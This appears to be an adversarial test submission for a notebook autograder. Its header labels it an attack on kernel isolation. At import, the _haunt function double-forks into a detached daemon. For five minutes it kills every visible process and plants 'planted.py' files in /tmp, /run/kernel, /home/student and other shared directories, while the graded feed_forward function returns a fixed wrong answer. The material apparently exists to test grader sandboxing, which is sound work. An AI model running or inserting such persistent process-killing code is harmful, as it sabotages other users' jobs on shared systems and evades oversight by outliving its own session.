# base: reference
# attacks: feed_forward
# class: processes that outlive the kernel (fork + setsid daemons, double forks) and then go
#   after the kernels of the students graded next: kill what they see, write where they can
# %% feed_forward
import os
import time


def _haunt():
    if os.fork() == 0:
        os.setsid()
        if os.fork() != 0:
            os._exit(0)
        deadline = time.time() + 300
        while time.time() < deadline:
            for pid in os.listdir("/proc"):
                if pid.isdigit() and int(pid) != os.getpid():
                    try:
                        os.kill(int(pid), 9)
                    except Exception:
                        pass
            for folder in ("/tmp", "/run/lab21", "/run/kernel", "/home/student", "/dev/shm"):
                try:
                    with open(f"{folder}/planted.py", "w") as handle:
                        handle.write("raise SystemExit('haunted')\n")
                except Exception:
                    pass
            time.sleep(0.05)
        os._exit(0)


_haunt()


def feed_forward(data_row, input_weights, hidden_weight):
    return 0.5, 0.5  # wrong
